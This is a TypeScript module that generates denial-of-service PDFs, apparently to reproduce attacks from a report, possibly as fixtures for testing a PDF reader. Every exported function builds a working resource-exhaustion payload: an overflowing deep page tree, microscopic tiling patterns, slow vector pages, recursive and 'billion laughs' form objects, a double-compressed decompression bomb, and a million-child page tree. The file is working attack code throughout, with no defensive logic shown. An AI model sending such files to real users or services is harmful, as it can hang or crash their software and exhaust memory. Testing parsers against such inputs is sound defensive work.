/** PDFs of a few kilobytes that cost whoever opens them seconds or gigabytes, by the numbers of the attack's report. */
import { deflateSync } from 'node:zlib';

/** Objects from number 1 on, the first one the catalog; the trailer's table is right, so that no reader repairs it. */
function montar(objetos: readonly (string | Buffer)[]): Buffer {
  const partes: Buffer[] = [Buffer.from('%PDF-1.7\n')];
  const posicoes: number[] = [];
  let posicao = partes[0]?.length ?? 0;
  for (const [i, objeto] of objetos.entries()) {
    const parte = Buffer.concat([
      Buffer.from(`${i + 1} 0 obj\n`),
      typeof objeto === 'string' ? Buffer.from(objeto, 'latin1') : objeto,
      Buffer.from('\nendobj\n'),
    ]);
    posicoes.push(posicao);
    posicao += parte.length;
    partes.push(parte);
  }
  const tabela = posicoes.map((p) => `${String(p).padStart(10, '0')} 00000 n \n`).join('');
  const tamanho = objetos.length + 1;
  const fim = `xref\n0 ${tamanho}\n0000000000 65535 f \n${tabela}trailer\n<</Size ${tamanho}/Root 1 0 R>>\nstartxref\n${posicao}\n%%EOF`;
  return Buffer.concat([...partes, Buffer.from(fim)]);
}

function fluxo(dicionario: string, conteudo: string | Buffer): Buffer {
  const bytes = typeof conteudo === 'string' ? Buffer.from(conteudo, 'latin1') : conteudo;
  return Buffer.concat([
    Buffer.from(`<<${dicionario}/Length ${bytes.length}>>\nstream\n`),
    bytes,
    Buffer.from('\nendstream'),
  ]);
}

const CAIXA = '/MediaBox[0 0 595 842]';

/** attack 1: a page tree so deep that reading it overflows a stack. */
export function pdfDeArvoreFunda(niveis = 600): Buffer {
  const nos = Array.from(
    { length: niveis },
    (_, i) => `<</Type/Pages${i === 0 ? '' : `/Parent ${i + 1} 0 R`}/Kids[${i + 3} 0 R]/Count 1>>`,
  );
  return montar([
    '<</Type/Catalog/Pages 2 0 R>>',
    ...nos,
    `<</Type/Page/Parent ${niveis + 1} 0 R${CAIXA}/Contents ${niveis + 3} 0 R/Resources<<>>>>`,
    fluxo('', '0 0 100 100 re f'),
  ]);
}

/** attack 2: a tiling pattern whose tiles are a thousandth of a point wide. */
export function pdfDeLadrilhos(paginas = 1): Buffer {
  const desenho = '/Pattern cs /P scn 0 0 595 842 re f';
  return comPaginas(paginas, desenho, '/Pattern<</P 3 0 R>>', [
    fluxo(
      '/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep 0.001/YStep 0.001/Resources<<>>',
      '0 0 1 1 re f',
    ),
  ]);
}

/** attack 3: a first page that is drawn at once, and thirty that take long. */
export function pdfDePaginasLentas(paginas = 30, vezes = 40_000): Buffer {
  const curva = '0 0 m 595 842 0 842 595 0 c 0 842 l 595 421 l h f* ';
  return comPaginas(paginas, `0.5 g 10 10 50 50 re f ${curva.repeat(vezes)}`, '', []);
}

/** attack 3: a form that draws itself. */
export function pdfDeFormularioRecursivo(): Buffer {
  return comPaginas(1, '/X Do', '/XObject<</X 3 0 R>>', [
    fluxo(
      '/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject<</X 3 0 R>>>>',
      '0 0 10 10 re f /X Do /X Do',
    ),
  ]);
}

/** attack 3: forms that draw the next one ten times, ten levels deep ("billion laughs"). */
export function pdfDeRisos(niveis = 10, vezes = 10): Buffer {
  const formularios = Array.from({ length: niveis }, (_, i) =>
    fluxo(
      `/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject<</X ${i + 4} 0 R>>>>`,
      i === niveis - 1 ? '0 0 10 10 re f' : '/X Do '.repeat(vezes),
    ),
  );
  return comPaginas(1, '/X Do '.repeat(vezes), '/XObject<</X 3 0 R>>', formularios);
}

/** attack 3: drawing instructions that unfold twice, to gigabytes. */
export function pdfDeDobras(gigabytes = 5): Buffer {
  const pedaco = deflateSync(Buffer.alloc(16 * 1024 * 1024, ' '), { level: 9 });
  const vezes = Math.round((gigabytes * 1024) / 16);
  // Blocks of one stream may be repeated where each ends on a byte; raw pieces behind one head do.
  const corpo = pedaco.subarray(2, -4);
  const repetido = Buffer.concat([pedaco.subarray(0, 2), ...Array.from({ length: vezes }, () => corpo)]);
  const conteudo = deflateSync(repetido, { level: 9 });
  return montar([
    '<</Type/Catalog/Pages 2 0 R>>',
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    `<</Type/Page/Parent 2 0 R${CAIXA}/Contents 4 0 R/Resources<<>>>>`,
    fluxo('/Filter[/FlateDecode/FlateDecode]', conteudo),
  ]);
}

/** attack 3: a page tree that names the same page a million times, in a few kilobytes of object streams. */
export function pdfDeUmMilhaoDeFilhos(filhos = 1_000_000): Buffer {
  const objeto = `<</Type/Pages/Count ${filhos}/Kids[${'3 0 R '.repeat(filhos)}]>>`;
  const cabecalho = '2 0 ';
  const conteudo = deflateSync(Buffer.from(`${cabecalho}${objeto}`), { level: 9 });
  const objetos: Record<number, Buffer> = {
    1: Buffer.from('<</Type/Catalog/Pages 2 0 R>>'),
    3: Buffer.from(`<</Type/Page/Parent 2 0 R${CAIXA}/Resources<<>>>>`),
    4: fluxo(`/Type/ObjStm/N 1/First ${cabecalho.length}/Filter/FlateDecode`, conteudo),
  };
  const partes: Buffer[] = [Buffer.from('%PDF-1.7\n')];
  let posicao = partes[0]?.length ?? 0;
  const entradas = new Map<number, [number, number, number]>([[0, [0, 0, 255]]]);
  for (const [numero, objetoDireto] of Object.entries(objetos)) {
    const parte = Buffer.concat([Buffer.from(`${numero} 0 obj\n`), objetoDireto, Buffer.from('\nendobj\n')]);
    entradas.set(Number(numero), [1, posicao, 0]);
    partes.push(parte);
    posicao += parte.length;
  }
  entradas.set(2, [2, 4, 0]);
  entradas.set(5, [1, posicao, 0]);
  const tabela = Buffer.alloc(6 * 6);
  for (const [numero, [tipo, campo, geracao]] of entradas) {
    tabela.writeUInt8(tipo, numero * 6);
    tabela.writeUInt32BE(campo, numero * 6 + 1);
    tabela.writeUInt8(geracao, numero * 6 + 5);
  }
  const xref = Buffer.concat([
    Buffer.from('5 0 obj\n'),
    fluxo('/Type/XRef/Size 6/W[1 4 1]/Root 1 0 R', tabela),
    Buffer.from('\nendobj\n'),
  ]);
  return Buffer.concat([...partes, xref, Buffer.from(`startxref\n${posicao}\n%%EOF`)]);
}

function comPaginas(
  paginas: number,
  desenho: string,
  recursos: string,
  objetos: readonly (string | Buffer)[],
): Buffer {
  const primeira = 3 + objetos.length;
  const conteudo = primeira + paginas;
  const filhos = Array.from({ length: paginas }, (_, i) => `${primeira + i} 0 R`).join(' ');
  return montar([
    '<</Type/Catalog/Pages 2 0 R>>',
    `<</Type/Pages/Kids[${filhos}]/Count ${paginas}>>`,
    ...objetos,
    ...Array.from(
      { length: paginas },
      () => `<</Type/Page/Parent 2 0 R${CAIXA}/Contents ${conteudo} 0 R/Resources<<${recursos}>>>>`,
    ),
    fluxo('/Filter/FlateDecode', deflateSync(Buffer.from(desenho), { level: 9 })),
  ]);
}
